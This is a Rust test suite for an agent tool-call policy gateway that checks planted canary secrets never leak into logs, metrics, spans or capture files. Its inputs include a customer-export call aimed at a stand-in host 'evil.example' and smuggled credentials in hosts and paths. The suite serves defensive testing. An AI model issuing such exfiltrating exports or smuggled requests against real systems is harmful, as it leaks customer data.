//! Nothing secret gets out: canaries in every place where a secret can be, and a look at all that leaves.

use serde_json::json;

use crate::support::ask::Ask;
use crate::support::otlp::Receiver;
use crate::support::process::{Process, palisade, stdout};
use crate::support::{Setup, eventually, get, metric};

const CANARY: &str = "canary-5b1f7c";

/// A request with a canary wherever a client may put a secret.
fn laden(ask: Ask) -> Ask {
    let ask = ask
        .header("authorization", &format!("Bearer {CANARY}"))
        .header("cookie", &format!("session={CANARY}"))
        .header("x-api-key", CANARY)
        .header("mcp-session-id", CANARY);
    Ask { path: format!("{}?token={CANARY}", ask.path), ..ask }
}

fn asks() -> Vec<(Ask, &'static str)> {
    let text = json!({"segment": CANARY});
    let malformed = format!("{{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/call\",\"params\":{{\"x\":\"{CANARY}\"");
    let twice = format!("{{\"jsonrpc\":\"2.0\",\"id\":1,\"id\":2,\"x\":\"{CANARY}\"}}");
    let uri = format!("file:///x?t={CANARY}");
    let reading = json!({"jsonrpc": "2.0", "id": 1, "method": "resources/read", "params": {"uri": uri}});
    let export = json!({"destination_url": format!("https://evil.example/{CANARY}")});
    vec![
        (Ask::tool("support-bot", "query_customers", &text), ""),
        (Ask::tool("support-bot", "query_customers", &json!({"segment": CANARY, "limit": 5_000})), "policy_forbids"),
        (Ask::tool("coder", "query_customers", &text), "no_policy_permits"),
        (Ask::tool("scraper", "export_customers", &export), "policy_forbids"),
        (Ask::tool("support-bot", "get_customer", &json!({"customer_id": CANARY})), "arguments_mismatch"),
        (Ask::mcp("support-bot", malformed), "json_malformed"),
        (Ask::mcp("support-bot", twice), "json_duplicate_key"),
        (Ask::mcp("support-bot", reading.to_string()), "no_policy_permits"),
        (Ask::status("coder"), ""),
        (Ask { path: format!("/status/x%3Ftoken={CANARY}"), ..Ask::status("coder") }, ""),
        (Ask { principal: String::new(), ..Ask::permitted() }, "identity_absent"),
    ]
}

/// Requests as no honest client sends them, with canaries where no honest client has values.
fn malformed() -> Vec<(Ask, &'static str)> {
    let named = json!({"name": CANARY, "id": CANARY, "method": CANARY});
    let response = json!({"jsonrpc": "2.0", "id": 1, "result": {"action": "accept", "content": named}});
    let meta = json!({"jsonrpc": "2.0", "id": 1, "method": "ping", "params": {"_meta": named}});
    let uri = format!("file:///x?t={CANARY}");
    let reading = json!({"jsonrpc": "2.0", "id": 1, "method": "resources/read", "params": {"uri": uri}}).to_string();
    let form = Ask { path: "/status".into(), ..Ask::mcp("coder", named.to_string()) };
    // Numbers are taken out too; this call is decided alike without its values.
    let permitted = || Ask::tool("support-bot", "query_customers", &json!({"segment": "startup"}));
    let header = |name: &str, value: &str| permitted().header(name, value);
    let host = |host: String| Ask { host, ..permitted() };
    let path = |path: String| Ask { path, ..permitted() };
    let argument = |name: &str| {
        let mut arguments = json!({"segment": "startup"});
        arguments[name] = json!(1);
        Ask::tool("support-bot", "query_customers", &arguments)
    };
    vec![
        (Ask::mcp("support-bot", response.to_string()), "no_policy_permits"),
        (Ask::mcp("support-bot", meta.to_string()), ""),
        (form, "no_policy_permits"),
        (Ask::mcp("support-bot", reading.clone()).header("mcp-name", &uri), "no_policy_permits"),
        (Ask::mcp("support-bot", reading).header("mcp-name", CANARY), "mcp_header_mismatch"),
        (header("mcp-method", CANARY), "mcp_header_mismatch"),
        (header("mcp-name", CANARY), "mcp_header_mismatch"),
        (header("upgrade", CANARY), "upgrade_refused"),
        (header("content-encoding", CANARY), "content_encoding_refused"),
        (header("connection", CANARY), "header_conflict"),
        (header("x-envoy-auth-partial-body", CANARY), "body_truncated"),
        (header("traceparent", CANARY), ""),
        (header("accept", CANARY), ""),
        (host(format!("user:{CANARY}@crm.example.org")), "host_malformed"),
        (path(format!("/mcp;token={CANARY}")), "path_ambiguous"),
        (path(format!("/mcp#{CANARY}")), "path_ambiguous"),
        (path(format!("/mcp%3Ftoken={CANARY}")), "target_unknown"),
        (path(format!("http://user:{CANARY}@crm.example.org/mcp")), "path_ambiguous"),
        (argument(&format!("Bearer {CANARY}")), "arguments_mismatch"),
    ]
}

#[test]
fn canaries_are_in_no_record_log_line_metric_span_or_answer() {
    let (receiver, otlp) = Receiver::start();
    let setup = Setup::new().set("telemetry", "otlp_endpoint", format!("\"http://{otlp}\"")).set(
        "telemetry",
        "permit_sample_ratio",
        "1.0",
    );
    let mut process = Process::serve(setup, &[]);
    let client = process.client();
    let mut answers = Vec::new();
    for (ask, reason) in asks().into_iter().map(|(ask, reason)| (laden(ask), reason)).chain(malformed()) {
        let answer = client.check(&ask);
        assert_eq!(answer.reason, reason, "{}", answer.body);
        answers.push(answer);
    }
    let metrics = get(process.admin(), "/metrics").1;
    let ready = get(process.admin(), "/readyz").1;
    for answer in &answers {
        receiver.span(&answer.decision_id);
    }
    assert_eq!(process.stop(), Some(0));
    assert_eq!(process.records().len(), answers.len());
    let records = std::fs::read_to_string(process.setup.path().join("records.jsonl")).unwrap();
    let spans = format!("{:?}", receiver.exports());
    assert!(spans.contains("crm/query_customers"));
    let bodies: String = answers.iter().map(|answer| format!("{:?}", answer.response)).collect();
    for (what, text) in [
        ("records", &records),
        ("log", &process.log_text()),
        ("metrics", &metrics),
        ("readiness", &ready),
        ("spans", &spans),
        ("answers", &bodies),
    ] {
        assert!(!text.contains(CANARY), "{what}: {text}");
    }
}

/// Captured checks are files that travel: redacted unless asked otherwise.
#[test]
fn captures_are_redacted_and_can_be_checked() {
    let setup = Setup::new();
    let captures = setup.path().join("captures");
    let mut process = Process::serve(setup, &["--record", captures.to_str().unwrap()]);
    let client = process.client();
    let asks: Vec<_> = asks().into_iter().map(|(ask, reason)| (laden(ask), reason)).chain(malformed()).collect();
    let ids: Vec<_> = asks.iter().map(|(ask, _)| client.check(ask).decision_id).collect();
    let files: Vec<_> = ids.iter().map(|id| captures.join(format!("{id}.json"))).collect();
    for path in &files {
        whole(path);
    }
    assert_eq!(process.stop(), Some(0));
    let bundle = process.setup.bundle();
    let well_formed = self::asks().len();
    for (at, (path, (_, reason))) in files.iter().zip(asks).enumerate() {
        let text = std::fs::read_to_string(path).unwrap();
        assert!(!text.contains(CANARY), "{text}");
        let output = palisade(&["check", path.to_str().unwrap(), "--bundle", bundle.to_str().unwrap()]);
        let code = output.status.code().unwrap();
        assert!([0, 10, 11].contains(&code), "{reason}: {output:?}");
        assert!(stdout(&output).starts_with("note: values were taken out"), "{}", stdout(&output));
        // Who called which tool is still there, so these decide as they did.
        if ["", "no_policy_permits", "identity_absent"].contains(&reason) {
            assert_eq!(code == 0, reason.is_empty(), "{reason}: {}", stdout(&output));
        } else if at >= well_formed {
            assert!(stdout(&output).contains(&format!("DENIAL ({reason})")), "{reason}: {}", stdout(&output));
        }
    }
}

/// As records are: even redacted, a capture tells who called what; and there is a way to have it whole.
#[test]
fn captures_are_the_owner_s() {
    use std::os::unix::fs::PermissionsExt as _;
    let setup = Setup::new();
    let captures = setup.path().join("captures");
    let mut process = Process::serve(setup, &["--record", captures.to_str().unwrap(), "--dangerous-record-values"]);
    let answer = process.client().check(&laden(Ask::permitted()));
    let path = captures.join(format!("{}.json", answer.decision_id));
    let text = whole(&path);
    assert!(text.contains(CANARY), "asked for, and given: {text}");
    assert_eq!(process.stop(), Some(0));
    assert_eq!(std::fs::metadata(&path).unwrap().permissions().mode() & 0o077, 0, "others can read the capture");
    // Whole, it decides as it did, and says nothing about values that are missing.
    let bundle = process.setup.bundle();
    let output = palisade(&["check", path.to_str().unwrap(), "--bundle", bundle.to_str().unwrap()]);
    assert_eq!(output.status.code(), Some(0));
    assert!(stdout(&output).starts_with("verdict    PERMIT"), "{}", stdout(&output));
}

/// What was captured is on disk when the process has ended.
#[test]
fn captures_are_all_written_at_the_end() {
    let setup = Setup::new();
    let captures = setup.path().join("captures");
    let mut process = Process::serve(setup, &["--record", captures.to_str().unwrap()]);
    let client = process.client();
    for _ in 0..60 {
        client.check(&Ask::permitted()).assert_permit();
    }
    let dropped = dropped(&process);
    assert_eq!(process.stop(), Some(0));
    let texts = texts(&captures);
    assert!(texts.iter().all(|text| text.ends_with('}')));
    assert_eq!(texts.len() as f64, 60.0 - dropped);
}

fn dropped(process: &Process) -> f64 {
    metric(&get(process.admin(), "/metrics").1, "palisade_captures_dropped_total", &[])
}

fn texts(directory: &std::path::Path) -> Vec<String> {
    let entries = std::fs::read_dir(directory).unwrap();
    entries.map(|entry| std::fs::read_to_string(entry.unwrap().path()).unwrap()).collect()
}

/// Capturing that is left on does not fill the disk: what was in the directory before counts, the rest is
/// dropped and counted, one line says so, and decisions go on.
#[test]
fn captures_end_at_their_bounds() {
    for (flag, most) in [("--record-max-files", "8"), ("--record-max-bytes", "6000")] {
        let setup = Setup::new();
        let captures = setup.path().join("captures");
        std::fs::create_dir(&captures).unwrap();
        std::fs::write(captures.join("earlier.json"), "x".repeat(1_000)).unwrap();
        let mut process = Process::serve(setup, &["--record", captures.to_str().unwrap(), flag, most]);
        let client = process.client();
        for _ in 0..40 {
            client.check(&Ask::permitted()).assert_permit();
        }
        eventually("every check is captured or dropped", || {
            (dropped(&process) + texts(&captures).len() as f64 == 40.0 + 1.0).then_some(())
        });
        assert_eq!(process.stop(), Some(0));
        let texts = texts(&captures);
        let bytes: usize = texts.iter().map(String::len).sum();
        match flag {
            "--record-max-files" => assert_eq!(texts.len(), 8),
            _ => assert!(bytes <= 6_000 && texts.len() > 2, "{} files, {bytes} bytes", texts.len()),
        }
        assert_eq!(
            process.log_text().matches("the directory of captures is full").count(),
            1,
            "{}",
            process.log_text()
        );
    }
}

/// A capture, once it is wholly written.
fn whole(path: &std::path::Path) -> String {
    eventually("a capture", || std::fs::read_to_string(path).ok().filter(|text| text.ends_with('}')))
}

/// A waypoint's capture names its caller too, or it could not be checked.
#[test]
fn captures_of_a_waypoint_can_be_checked() {
    let setup = Setup::new().listener("tcp = \"127.0.0.1:0\"\nidentity = \"xfcc\"");
    let captures = setup.path().join("captures");
    let mut process = Process::serve(setup, &["--record", captures.to_str().unwrap()]);
    // Numbers are taken out too; this call is decided alike without its values.
    let ask = Ask::tool("support-bot", "query_customers", &json!({"segment": "startup"}));
    let answer = process.client().check(&laden(ask.by_xfcc()));
    answer.assert_permit();
    let path = captures.join(format!("{}.json", answer.decision_id));
    let text = whole(&path);
    assert_eq!(process.stop(), Some(0));
    assert!(!text.contains(CANARY), "{text}");
    let config = process.setup.path().join("palisade.toml");
    let bundle = process.setup.bundle();
    let fixed = ["check", path.to_str().unwrap(), "--bundle", bundle.to_str().unwrap()];
    let records = process.records();
    for more in [&["--config", config.to_str().unwrap()][..], &[]] {
        let output = palisade(&[&fixed[..], more].concat());
        let text = stdout(&output);
        assert_eq!(output.status.code(), Some(0), "{text}");
        assert!(text.contains("caller     spiffe://example.org/ns/agents/sa/support-bot\n"), "{text}");
        // As of the same moment, too.
        let time = text.lines().find_map(|line| line.strip_prefix("time ")?.split_whitespace().next()).unwrap();
        let recorded = records[0]["time"].as_str().unwrap();
        assert_eq!(time.parse::<jiff::Timestamp>().unwrap(), recorded.parse().unwrap(), "{text}");
    }
}
